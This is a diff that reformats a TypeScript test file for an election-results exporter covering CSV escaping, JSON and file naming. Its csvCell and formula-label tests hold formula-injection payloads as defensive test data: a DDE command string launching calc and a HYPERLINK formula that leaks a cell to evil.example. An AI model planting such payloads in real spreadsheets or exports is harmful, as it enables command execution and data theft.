@@ -1,5 +1,13 @@
 import { describe, expect, it } from "vitest";
-import { csvCell, csvDocument, type ExportElection, type RecountForExport, resultsCsv, resultsFileName, resultsJson } from "../src/client/index";
+import {
+  csvCell,
+  csvDocument,
+  type ExportElection,
+  type RecountForExport,
+  resultsCsv,
+  resultsFileName,
+  resultsJson,
+} from "../src/client/index";
 
 const election: ExportElection = {
   id: "6f1c2d3e-0000-4000-8000-000000000001",
@@ -22,7 +30,11 @@ const recount: RecountForExport = {
   // No counter for "amara": the count drops counters that are zero.
   counters: { __turnout: 3, __quarantined: 1, "chair#bob": 2, "chair#__abstain": 1 },
   instantRunoff: {
-    chair: { winner: "bob", abstentions: 1, rounds: [{ round: 1, tallies: { amara: 0, bob: 2 }, exhausted: 0, eliminated: [] }] },
+    chair: {
+      winner: "bob",
+      abstentions: 1,
+      rounds: [{ round: 1, tallies: { amara: 0, bob: 2 }, exhausted: 0, eliminated: [] }],
+    },
   },
   differences: [],
 };
@@ -39,7 +51,10 @@ describe("resultsCsv", () => {
 
   it("has one row per option, with its label and its votes (0 when the recount has no counter)", () => {
     const optionRows = lines.filter((line) => /^chair#(amara|bob),/.test(line));
-    expect(optionRows).toEqual(["chair#amara,chair,Who should chair the board?,amara,Amara Okonkwo,0", 'chair#bob,chair,Who should chair the board?,bob,"Smith, Robert ""Bob""",2']);
+    expect(optionRows).toEqual([
+      "chair#amara,chair,Who should chair the board?,amara,Amara Okonkwo,0",
+      'chair#bob,chair,Who should chair the board?,bob,"Smith, Robert ""Bob""",2',
+    ]);
   });
 
   it("has the turnout, the held ballots and the abstentions", () => {
@@ -68,7 +83,10 @@ describe("csvCell", () => {
   // quoted or not; a leading ' makes it text, and the cell is quoted.
   it.each([
     ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
-    ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`],
+    [
+      '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`,
+    ],
     ["@SUM(1)", `"'@SUM(1)"`],
     ["-2+3", `"'-2+3"`],
     ["\t=1", `"'\t=1"`],
@@ -84,7 +102,12 @@ describe("csvCell", () => {
   });
 
   it("writes documents of rows with CRLF after each", () => {
-    expect(csvDocument([["a", 1], ["=b", 2]])).toBe("a,1\r\n\"'=b\",2\r\n");
+    expect(
+      csvDocument([
+        ["a", 1],
+        ["=b", 2],
+      ]),
+    ).toBe('a,1\r\n"\'=b",2\r\n');
   });
 });
 
@@ -92,7 +115,17 @@ describe("resultsCsv with labels that are formulas", () => {
   it("writes every label and prompt as text", () => {
     const attack: ExportElection = {
       ...election,
-      questions: [{ id: "q", kind: "single", prompt: "=1+1", options: [{ id: "a", label: "+cmd|' /C calc'!A0" }, { id: "b", label: "@SUM(1)" }] }],
+      questions: [
+        {
+          id: "q",
+          kind: "single",
+          prompt: "=1+1",
+          options: [
+            { id: "a", label: "+cmd|' /C calc'!A0" },
+            { id: "b", label: "@SUM(1)" },
+          ],
+        },
+      ],
     };
     const lines = csvLines(resultsCsv(attack, recount));
     expect(lines).toContain(`q#a,q,"'=1+1",a,"'+cmd|' /C calc'!A0",0`);
@@ -123,6 +156,8 @@ describe("resultsJson", () => {
 
 describe("resultsFileName", () => {
   it("names the file after the election and the day of the recount", () => {
-    expect(resultsFileName({ title: "Harbour Board, 2025!" }, new Date("2025-03-30T07:00:00Z"), "csv")).toBe("harbour-board-2025-results-2025-03-30.csv");
+    expect(resultsFileName({ title: "Harbour Board, 2025!" }, new Date("2025-03-30T07:00:00Z"), "csv")).toBe(
+      "harbour-board-2025-results-2025-03-30.csv",
+    );
   });
 });
